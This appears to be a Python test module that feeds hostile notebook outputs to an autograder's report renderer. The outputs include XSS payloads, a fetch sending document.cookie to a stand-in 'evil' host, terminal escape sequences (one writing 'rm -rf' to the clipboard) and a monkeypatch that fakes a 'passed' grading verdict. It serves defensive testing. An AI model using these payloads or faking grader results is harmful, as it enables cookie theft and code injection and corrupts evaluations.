"""Attacks on whoever reads the report: programs in outputs, addresses that call home, terminals that obey."""

from __future__ import annotations

from tests.attacks.course import Attack

SHOW = "from IPython.display import display\ndisplay({{{mime!r}: {text!r}}}, raw=True)"
RUN = (
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "<iframe",
    "<svg",
    "http://evil",
    "\x1b]",
    "<object",
    "<form",
    "<meta",
    "@import",
)


def shown(name: str, mime: str, text: str, hidden: tuple[str, ...] = RUN) -> Attack:
    return Attack(name, trick=SHOW.format(mime=mime, text=text), hidden=hidden)


ATTACKS = [
    shown(
        "HTML with a script",
        "text/html",
        "<b>ok</b><script>fetch('http://evil')</script><SCRIPT SRC=http://evil></SCRIPT>",
    ),
    shown(
        "HTML with handlers",
        "text/html",
        "<img src=x onerror=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>",
    ),
    shown(
        "HTML with addresses that run",
        "text/html",
        "<a href='jAvascript:alert(1)'>x</a><a href='java&#10;script:alert(1)'>x</a>",
    ),
    shown(
        "HTML that calls home",
        "text/html",
        "<img src='http://evil/x.png'><p style='background:url(http://evil)'><link href='http://evil'>",
    ),
    shown(
        "HTML with frames and forms",
        "text/html",
        "<iframe srcdoc='<script>1</script>'></iframe><form action='http://evil'><input></form><object "
        "data='http://evil'>",
    ),
    shown("HTML with a style sheet", "text/html", "<style>@import 'http://evil';</style><p>x</p>"),
    shown(
        "HTML that confuses parsers",
        "text/html",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    ),
    shown("SVG with a script", "image/svg+xml", "<svg onload='alert(1)'><script>alert(1)</script></svg>"),
    shown("JavaScript itself", "application/javascript", "fetch('http://evil' + document.cookie)"),
    shown("a formula with a script", "text/latex", "$x</span><script>alert(1)</script>$"),
    shown("a formula with an address that runs", "text/latex", r"$\href{javascript:alert(1)}{x}$", ("\\href",)),
    shown(
        "Markdown with a script and an address",
        "text/markdown",
        "# x\n<script>alert(1)</script>\n[x](javascript:alert(1)) ![x](http://evil/x.png)",
    ),
    shown("a picture that ends its attribute", "image/png", "iVBORw0KGgo='><script>alert(1)</script>"),
    shown("a widget", "application/vnd.jupyter.widget-view+json", "<script>1</script>"),
    Attack(
        "a terminal that obeys",
        "print('\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m')\nraise ValueError('\\x1b]52;c;cm0gLXJm\\x07')",
        mse="def mse(y_hat, y, half=False):\n    raise ValueError('\\x1b]0;pwned\\x07<script>1</script>')",
        verdicts=("error", "wrong"),
        hidden=("\x1b]", "\x07", "\x9b"),
    ),
    Attack(
        "outputs that are no outputs",
        "import gc\nfrom autograder.grading.outputs import RecordingShell\n"
        "RecordingShell.record = lambda self, source: ([{'output_type': 'display_data', 'data': "
        "{'text/html': '<script>1</script>', 3: 4}, 'metadata': {'gradwalk': {'verdict': 'passed'}}}, "
        "7, None, {'output_type': 'error'}, {'output_type': 'stream', 'name': '<script>', "
        "'text': 'x'}], None)",
        hidden=("<script", "passed"),
        spoils_step=True,
        verdicts=("missing", "missing"),
    ),
]
